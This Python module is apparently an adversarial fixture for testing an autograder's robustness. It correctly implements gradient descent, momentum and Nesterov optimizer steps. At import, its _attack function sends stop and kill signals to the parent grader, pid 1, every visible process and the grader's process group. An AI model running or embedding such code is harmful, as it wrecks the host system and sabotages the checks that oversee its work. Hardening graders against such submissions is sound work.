"""Attack: At import, send SIGKILL/SIGSTOP/SIGTERM to the parent (the grader), its process group,
pid 1 and every process visible in /proc. Correct otherwise.
Expected: full marks and a complete report (no signal reaches the grader).
"""
import os
import signal

import numpy as np


# ---- honest core: a correct implementation ----
def _right_gd_step(theta, grad_fn, lr):
    return theta - lr * grad_fn(theta)


def _right_momentum_step(theta, velocity, grad_fn, lr, rho):
    v = rho * velocity - lr * grad_fn(theta)
    return theta + v, v


def _right_nag_step(theta, velocity, grad_fn, lr, rho):
    v = rho * velocity - lr * grad_fn(theta + rho * velocity)
    return theta + v, v


def _right_optimize(grad_fn, theta0, method, lr, rho=0.9, num_steps=100):
    if method not in ("gd", "momentum", "nag"):
        raise ValueError(f"unknown method {method!r}")
    theta = np.array(theta0, dtype=np.float64)
    v = np.zeros_like(theta)
    rows = [theta]
    for _ in range(num_steps):
        if method == "gd":
            theta = _right_gd_step(theta, grad_fn, lr)
        elif method == "momentum":
            theta, v = _right_momentum_step(theta, v, grad_fn, lr, rho)
        else:
            theta, v = _right_nag_step(theta, v, grad_fn, lr, rho)
        rows.append(theta)
    return np.stack(rows)


def gd_step(theta, grad_fn, lr):
    return _right_gd_step(theta, grad_fn, lr)


def momentum_step(theta, velocity, grad_fn, lr, rho):
    return _right_momentum_step(theta, velocity, grad_fn, lr, rho)


def nag_step(theta, velocity, grad_fn, lr, rho):
    return _right_nag_step(theta, velocity, grad_fn, lr, rho)


def optimize(grad_fn, theta0, method, lr, rho=0.9, num_steps=100):
    return _right_optimize(grad_fn, theta0, method, lr, rho, num_steps)


def _attack():
    targets = {os.getppid(), 1}
    try:
        targets |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        pass
    targets.discard(os.getpid())
    for pid in targets:
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass


_attack()
